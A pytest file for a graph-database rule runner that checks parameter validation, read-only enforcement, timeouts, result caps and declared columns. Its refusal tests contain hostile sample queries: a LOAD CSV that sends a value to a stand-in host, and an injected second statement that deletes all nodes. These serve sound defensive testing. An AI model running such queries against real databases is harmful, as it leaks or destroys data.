"""Running a rule: parameters typed first, read-only, timeout, result cap, declared columns."""

from __future__ import annotations

import datetime as dt

import pytest

from xiansuo.model.vocabulary import Vocabulary
from xiansuo.queries.params import ParameterError, bind_params
from xiansuo.queries.rule import Rule, load_rules
from xiansuo.queries.runner import run_rule, run_rules

DISHONEST = next(r for r in load_rules() if r.id == "dishonest_not_removed")
GANG = next(r for r in load_rules() if r.id == "multi_region_gang")
VOCABULARY = Vocabulary.load()


def _variant(rule: Rule, **changes) -> Rule:
    return rule.model_copy(update=changes)


def test_dates_are_passed_as_iso_strings_and_day_numbers():
    assert bind_params(DISHONEST, {"as_of": "2025-06-30"}) == {
        "as_of": "2025-06-30",
        "as_of_day": (dt.date(2025, 6, 30) - dt.date(1970, 1, 1)).days,
    }
    assert bind_params(DISHONEST, {"as_of": dt.date(2025, 6, 30)})["as_of"] == "2025-06-30"


@pytest.mark.parametrize("value", ["2025-02-30", "30/06/2025", "2025-13-01", None])
def test_bad_or_missing_parameters_fail_before_anything_runs(engine, value):
    values = {} if value is None else {"as_of": value}
    with pytest.raises(ParameterError, match="as_of"):
        run_rules(engine, load_rules(), values, VOCABULARY)


def test_a_rule_that_writes_is_refused(engine):
    rule = _variant(DISHONEST, query="CREATE (p:Person {id_no: $as_of}) RETURN p.id_no AS debtor")
    run = run_rule(engine, rule, {"as_of": "2025-06-30"}, VOCABULARY)
    assert run.error and "read-only" in run.error["en"] and "不能运行" in run.error["zh"]
    assert engine.read("MATCH (n) RETURN count(n) AS n") == [{"n": 0}]


@pytest.mark.parametrize(
    "query",
    [
        "LOAD CSV FROM 'https://example.invalid/?leak=' + $as_of AS r RETURN r[0] AS debtor",
        "CALL db.idx.fulltext.createNodeIndex('Person', 'name') RETURN 1 AS debtor",
        "MATCH (p:Person) RETURN p.id_no AS debtor; MATCH (n) DETACH DELETE n",
    ],
    ids=["load-csv", "procedure", "two-statements"],
)
def test_unsafe_rules_are_refused_before_they_run(engine, query):
    run = run_rule(engine, _variant(DISHONEST, query=query), {"as_of": "2025-06-30"}, VOCABULARY)
    assert run.error and "may not run" in run.error["en"] and run.rows == 0


def test_a_rule_the_engine_cannot_run_fails_alone_with_a_message(engine):
    returns_a_node = _variant(DISHONEST, query="MATCH (p:Person) RETURN p AS debtor")
    engine.write("UNWIND $rows AS row CREATE (:Person {id_no: row.k})", [{"k": "1"}])
    bad_syntax = _variant(DISHONEST, query="MATCH (p:Person RETURN p.id_no AS debtor")
    unknown = _variant(DISHONEST, query="RETURN no_such_function(1) AS debtor")
    runs = run_rules(engine, [returns_a_node, bad_syntax, unknown, DISHONEST],
                     {"as_of": "2025-06-30"}, VOCABULARY)  # fmt: skip
    assert [bool(run.error) for run in runs] == [True, True, True, False]
    assert all("could not run" in run.error["en"] for run in runs[:3])


def test_a_slow_rule_hits_its_timeout(engine):
    # FalkorDB checks the timeout between steps: 50M values took 4–24 s to be stopped, 5M 0.7 s.
    rule = _variant(DISHONEST, query="UNWIND range(1, 5000000) AS x RETURN count(x) AS debtor")
    run = run_rule(engine, rule, {"as_of": "2025-06-30"}, VOCABULARY, timeout_ms=1)
    assert run.error and "timed out" in run.error["en"]
    assert run.leads == []


def test_the_cap_stops_the_query_in_the_engine(engine):
    query = "UNWIND range(1, 3000000) AS i RETURN toString(i) AS debtor"
    rows = engine.query(query, {}, timeout_ms=60_000, max_rows=10)
    assert len(rows) == 11  # one more than the cap, so that a cut result is known


def test_results_beyond_the_cap_are_cut_and_flagged(engine):
    query = (
        "UNWIND range(1, 30) AS i RETURN toString(i) AS debtor, null AS debtor_name, "
        "'(2023)川1802执' + toString(i) + '号' AS case, null AS listed_date, "
        "null AS completed_date"
    )
    rule = _variant(DISHONEST, query=query)
    run = run_rule(engine, rule, {"as_of": "2025-06-30"}, VOCABULARY, max_rows=10)
    assert run.truncated and run.rows == 11 and len(run.leads) == 10


def test_undeclared_returns_are_an_error(engine):
    query = "UNWIND [1] AS i RETURN '1' AS debtor, '(2023)川1802执1号' AS case"
    run = run_rule(engine, _variant(DISHONEST, query=query), {"as_of": "2025-06-30"}, VOCABULARY)
    assert run.error and "completed_date" in run.error["en"]


def test_a_rule_needing_the_analysis_says_so_when_it_did_not_run(engine):
    run = run_rule(engine, GANG, {}, VOCABULARY)
    assert run.error and "analysis" in run.error["en"] and run.leads == []
    assert run_rule(engine, GANG, {}, VOCABULARY, stages={"analysis"}).error is None
